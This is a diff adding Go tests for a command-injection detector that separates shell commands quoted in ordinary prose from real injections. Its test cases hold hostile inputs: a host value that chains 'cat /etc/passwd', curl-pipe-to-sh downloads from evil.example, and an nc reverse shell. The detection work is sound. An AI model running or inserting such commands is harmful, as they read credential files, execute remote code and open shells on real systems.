@@ -1,0 +1,46 @@
+package detect
+
+import (
+	"context"
+	"testing"
+)
+
+func TestProseLike(t *testing.T) {
+	for _, tc := range []struct {
+		in   string
+		want bool
+	}{
+		{"The build has `make && rm -rf out` but the image is still large.", true},
+		{"Windows: run `ipconfig /all` and then paste the output here please", true},
+		{"127.0.0.1; cat /etc/passwd", false},
+		{"x && curl http://evil.example/s.sh | sh", false},
+		{"a b c d e f g h", false},
+	} {
+		if got := proseLike(tc.in); got != tc.want {
+			t.Errorf("proseLike(%q) = %v, want %v", tc.in, got, tc.want)
+		}
+	}
+}
+
+// TestQuotedCommands: commands quoted inside sentences are discounted; an injection that
+// opens the value, or a value that is only a payload, is not.
+func TestQuotedCommands(t *testing.T) {
+	d := newTestDetector(t)
+	for _, tc := range []struct {
+		where, in string
+		threat    bool
+	}{
+		{"body:text", "Our Dockerfile has `RUN npm ci && rm -rf /tmp/cache` yet the image is still huge, why is that?", false},
+		{"body:text", "On Windows run `ipconfig /all` and `ping -n 4 10.0.0.1`, then paste the output in this thread.", false},
+		{"body:text", "I use `$(date +%F)` in the file name and it works when I run it by hand but not from cron.", false},
+		{"body:text", "I set `alias gs='git status'` in my .bashrc and then ran `source ~/.bashrc` but it is not there.", false},
+		{"query:host", "127.0.0.1; cat /etc/passwd", true},
+		{"query:host", "8.8.8.8 && curl http://evil.example/s.sh | sh", true},
+		{"body:text", "; curl http://evil.example/s.sh | sh # and this is the way it was done in the past", true},
+		{"body:form:comment", "`nc -e /bin/sh evil.example 4444` is what we run when the build is green", true},
+	} {
+		if r := d.Detect(context.Background(), tc.in, tc.where); r.IsThreat != tc.threat {
+			t.Errorf("Detect(%q, %s) threat = %v, want %v: %+v", tc.in, tc.where, r.IsThreat, tc.threat, r.Threats)
+		}
+	}
+}
